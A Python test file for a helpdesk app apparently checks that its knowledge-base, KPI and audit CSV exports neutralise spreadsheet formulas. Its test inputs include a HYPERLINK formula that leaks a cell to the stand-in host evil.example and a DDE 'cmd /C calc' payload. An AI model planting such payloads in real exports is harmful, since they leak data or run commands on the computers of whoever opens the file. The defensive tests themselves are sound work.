"""Every CSV export (knowledge base, KPIs, audit log) neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

from sqlalchemy.orm import Session

from deskpilot.accounts.principal import Principal
from deskpilot.audit import service as audit
from deskpilot.kb import importer
from tests.api.conftest import Clients
from tests.factories import Desk, make_queue, open_ticket

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_kb_csv_export_neutralises_a_formula_title_and_imports_back_unchanged(clients: Clients, session: Session,
                                                                            desk: Desk) -> None:
    documents = [importer.ImportedDocument(source="x.md", slug="evil", title="@SUM(1+1)*cmd|' /C calc'!A0",
                                           body="-2+3 is the answer.")]
    importer.import_documents(session, actor=Principal.of(desk.adam), documents=documents, approve=True)
    session.commit()
    exported = clients["lena"].get("/api/v1/kb/export", params={"format": "csv"}).text
    assert _rows(exported) == [{"doc_id": "evil", "title": "'@SUM(1+1)*cmd|' /C calc'!A0",
                                "text": "'-2+3 is the answer."}]
    again = clients["adam"].post("/api/v1/kb/import", json={"files": [{"filename": "kb.csv", "content": exported}]})
    assert again.status_code == 200 and again.json()["unchanged"] == ["evil"]


def test_kpi_csv_export_neutralises_a_queue_name_led_by_a_tab(clients: Clients, session: Session,
                                                             desk: Desk) -> None:
    queue = make_queue(session, "\t=1+1", None)
    open_ticket(session, desk, desk.alice, queue=queue)
    session.commit()
    rows = _rows(clients["lena"].get("/api/v1/analytics/kpis/queues.csv").text)
    assert "'\t=1+1" in {row["queue"] for row in rows}


def test_audit_csv_export_neutralises_a_formula_in_an_event(clients: Clients, session: Session) -> None:
    audit.record(session, actor_id=None, actor_name=FORMULA, action="+test", subject_type="ticket",
                 subject_id="-1")
    session.commit()
    rows = _rows(clients["audrey"].get("/api/v1/audit/export").text)
    event = next(row for row in rows if row["action"] == "'+test")
    assert (event["actor_name"], event["subject_id"]) == ("'" + FORMULA, "'-1")
